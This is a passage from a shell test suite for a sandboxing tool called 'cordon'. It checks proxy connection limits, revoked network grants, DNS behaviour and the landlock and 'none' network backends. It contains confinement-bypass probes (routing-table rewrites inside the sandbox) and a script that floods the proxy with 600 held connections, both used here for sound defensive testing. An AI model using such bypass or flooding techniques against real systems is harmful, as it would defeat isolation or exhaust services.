        ip $c 2>&1 | grep -q "Operation not permitted" && printf "EPERM " || printf "changed "; done | sed "s/ $//"'
check_out "... and its connections are still the proxy's after trying" "SERVED ENETUNREACH" \
    att sh -c 'ip route del local 198.18.0.0/15 dev lo table local 2>/dev/null; ip route add local 0.0.0.0/0 dev lo table local 2>/dev/null
        python3 "$1" "allowed.test/$3" "$2/$3"' sh "$A/tcp.py" "$NSIP" "$PL"

# ---- the proxy's thread: held connections, its limit ------------------------------------
cat >"$A/hold.py" <<'PY'
import socket, subprocess, sys, time
# N DIR: N connections to allowed.test:443 holding 3 bytes of a TLS record;
# then a new one (while they are held), then again after they are closed
held = []
for i in range(int(sys.argv[1])):
    try:
        s = socket.create_connection(("allowed.test", 443), timeout=5); s.sendall(b"\x16\3\1"); held.append(s)
    except OSError: break
def fresh():
    return subprocess.run([sys.executable, sys.argv[2] + "/tls.py", "allowed.test", "sni"], capture_output=True,
                          text=True).stdout.strip()
during = fresh()
for s in held: s.close()
time.sleep(1.5)
print(len(held), during, fresh())
PY
chmod a+r "$A/hold.py"
check_out "linux: 600 connections held mid-ClientHello: the proxy holds 512, refuses the others, and serves again once they close" \
    "600 refused SERVED" att $PY "$A/hold.py" 600 "$A"
att_timeouts() ( export CORDON_TEST_PROXY_TIMEOUTS=2,300,60; att "$@" )
check_out "linux: a connection held mid-ClientHello is closed at the head's deadline" "refused" \
    att_timeouts $PY -c 'import socket
s = socket.create_connection(("allowed.test", 443), timeout=8); s.sendall(b"\x16\3\1")
try: print("refused" if s.recv(10) == b"" else "data")
except OSError as e: print(type(e).__name__)'

# ---- a live grant removed: the address given stops standing for the name ----------------
cat >"$A/grant.py" <<'PY'
import json, socket, subprocess, sys
cordon, tcp, port = sys.argv[1:4]
a, b = socket.socketpair()
script = ('read x; a=$(getent hosts allowed.test | cut -d" " -f1); echo "${a:-none}"; python3 "$1" "$a/$2"; read x; '
          'python3 "$1" "$a/$2"; getent hosts allowed.test >/dev/null && echo resolves || echo nxdomain')
cmd = [cordon, "run", "--backend", "linux", "--control-fd", str(b.fileno()), "--allow-net", "other.test:" + port,
       "--expose", tcp.rsplit("/", 1)[0], "--", "sh", "-c", script, "sh", tcp, port]
f = a.makefile("rw")
def ask(line):
    f.write(line + "\n"); f.flush(); return json.loads(f.readline())
p = subprocess.Popen(cmd, pass_fds=[b.fileno()], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
b.close()
out = [str(ask(json.dumps({"allow_net": "allowed.test:" + port}))["ok"])]
p.stdin.write("\n"); p.stdin.flush()
out.append("pool" if p.stdout.readline().startswith("198.18.") else "not the pool")
out.append(p.stdout.readline().strip())
out.append(str(ask(json.dumps({"remove_net": "allowed.test:" + port}))["ok"]))
p.stdin.write("\n"); p.stdin.flush()
out += [p.stdout.readline().strip(), p.stdout.readline().strip()]
p.wait()
print(" ".join(out))
PY
chmod a+r "$A/grant.py"
check_out "linux: an address given for a granted name, the grant then removed: refused, and the name no longer resolves" \
    "True pool SERVED True refused nxdomain" in_hosts $PY "$A/grant.py" "$CORDON" "$A/tcp.py" "$PL"

# ---- unchanged elsewhere: the landlock backend, the network "none" ----------------------
ll_probe() {
    in_hosts "$CORDON" run --backend landlock --allow-net "$TALLOW" --expose "$A" -- "${NOPROXY[@]}" sh -c \
        'python3 "$1" "$2/80" "$2/$3" "198.18.0.1/443"; grep -q "sandbox.s resolver" /etc/resolv.conf && echo sandbox || echo host' \
        sh "$A/tcp.py" "$NSIP" "$PL" | tr '\n' ' ' | sed 's/ $//'
}
check_out "landlock: no interception: the allowed name's address and a pool address get EACCES; the host's resolv.conf" \
    "EACCES EACCES EACCES host" ll_probe
none_probe() {
    cordon run --backend linux --network none --expose "$A" -- sh -c \
        'ip route show table local | grep -q "^local default" && echo anyip || echo none
         grep -q "sandbox.s resolver" /etc/resolv.conf && echo resolver || echo none; python3 "$1" "$2/80" "198.18.0.1/443"' \
        sh "$A/tcp.py" "$NSIP" | tr '\n' ' ' | sed 's/ $//'
}
check_out "linux --network none: no AnyIP route, no resolver, TCP refused by Landlock as before" "none none EACCES EACCES" none_probe
done_testing
